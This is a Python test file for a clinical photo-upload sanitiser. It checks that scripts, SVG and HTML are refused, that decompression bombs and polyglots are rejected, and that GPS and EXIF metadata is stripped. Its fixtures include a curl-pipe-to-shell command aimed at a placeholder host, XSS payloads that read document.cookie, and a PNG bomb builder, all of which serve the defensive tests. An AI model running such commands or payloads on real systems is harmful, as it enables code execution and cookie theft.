"""What is refused before a photo is stored, and what is left of one that is."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import ExifTags, Image

from skinterval.photos import imaging
from skinterval.photos.imaging import ImageRefused, clean_image
from skinterval.photos.tests.factories import image_bytes

SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<html><body><script>alert(1)</script></body></html>"


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body))
        + kind
        + body
        + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    )


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` x `height` pixels (a bomb: a few
    hundred bytes that would decode to gigabytes)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (80, 60), (200, 90, 60))
    exif = image.getexif()
    exif[ExifTags.Base.Make] = "SecretCam"
    exif[ExifTags.Base.Orientation] = 1
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (51.0, 27.0, 15.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (2.0, 35.0, 1.0)
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, comment=b"patient in room 2")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "code"),
    [
        pytest.param(SCRIPT, "not_an_image", id="a script renamed .jpg"),
        pytest.param(SVG, "not_an_image", id="SVG"),
        pytest.param(HTML, "not_an_image", id="HTML"),
        pytest.param(b"GIF89a" + b"\x00" * 40, "not_an_image", id="GIF"),
        pytest.param(b"", "not_an_image", id="empty"),
        pytest.param(b"\xff\xd8\xff\xe0" + SCRIPT, "corrupt", id="JPEG magic + script"),
        pytest.param(image_bytes()[:200], "corrupt", id="truncated JPEG"),
        pytest.param(png_claiming(30_000, 30_000), "too_many_pixels", id="PNG bomb"),
        pytest.param(png_claiming(9_000, 6_000), "too_many_pixels", id="54 MP"),
    ],
)
def test_refused(data, code):
    with pytest.raises(ImageRefused) as refused:
        clean_image(data)
    assert refused.value.code == code


def test_refused_when_over_the_byte_limit_before_anything_is_parsed():
    data = image_bytes()
    with pytest.raises(ImageRefused) as refused:
        clean_image(data, max_bytes=len(data) - 1)
    assert refused.value.code == "too_large"
    assert clean_image(data, max_bytes=len(data)).width_px == 64


def test_the_default_limits_hold_a_phone_photo_and_not_a_bomb():
    assert imaging.MAX_BYTES == 15 * 1024 * 1024
    assert Image.MAX_IMAGE_PIXELS == imaging.MAX_PIXELS == 50_000_000
    with pytest.raises(ImageRefused):
        clean_image(b"\xff\xd8\xff" + b"\x00" * imaging.MAX_BYTES)


def test_pixels_are_checked_against_the_limit_given():
    data = image_bytes(size=(100, 100))
    with pytest.raises(ImageRefused) as refused:
        clean_image(data, max_pixels=9_999)
    assert refused.value.code == "too_many_pixels"
    assert clean_image(data, max_pixels=10_000).width_px == 100


def test_every_piece_of_metadata_is_gone():
    original = jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as before:  # the test file does carry it
        assert before.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert b"SecretCam" in original
    assert b"room 2" in original

    clean = clean_image(original)

    with Image.open(io.BytesIO(clean.jpeg)) as after:
        assert after.format == "JPEG"
        assert len(after.getexif()) == 0
        assert "exif" not in after.info
        assert "icc_profile" not in after.info
        assert "comment" not in after.info
        assert after.size == (80, 60)
    assert b"Exif" not in clean.jpeg
    assert b"SecretCam" not in clean.jpeg
    assert b"room 2" not in clean.jpeg


def test_the_orientation_is_applied_before_the_exif_is_dropped():
    image = Image.new("RGB", (80, 40), (10, 10, 10))
    exif = image.getexif()
    exif[ExifTags.Base.Orientation] = 6  # "rotate 90° clockwise to show"
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    clean = clean_image(buffer.getvalue())
    assert (clean.width_px, clean.height_px) == (40, 80)


def test_a_png_with_transparency_becomes_a_jpeg_on_white():
    image = Image.new("RGBA", (20, 20), (255, 0, 0, 0))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", icc_profile=b"\x00" * 128)
    clean = clean_image(buffer.getvalue())
    with Image.open(io.BytesIO(clean.jpeg)) as after:
        assert after.format == "JPEG"
        assert after.mode == "RGB"
        assert "icc_profile" not in after.info
        red, green, blue = after.getpixel((10, 10))
        assert min(red, green, blue) > 240


def test_trailing_bytes_after_the_image_are_dropped():
    polyglot = image_bytes() + b"<script>alert(1)</script>"
    clean = clean_image(polyglot)
    assert b"<script>" not in clean.jpeg


def test_a_large_photo_is_scaled_to_the_longest_side_allowed():
    data = image_bytes(size=(imaging.MAX_EDGE_PX + 400, 1000))
    clean = clean_image(data)
    assert clean.width_px == imaging.MAX_EDGE_PX
    assert clean.height_px < 1000
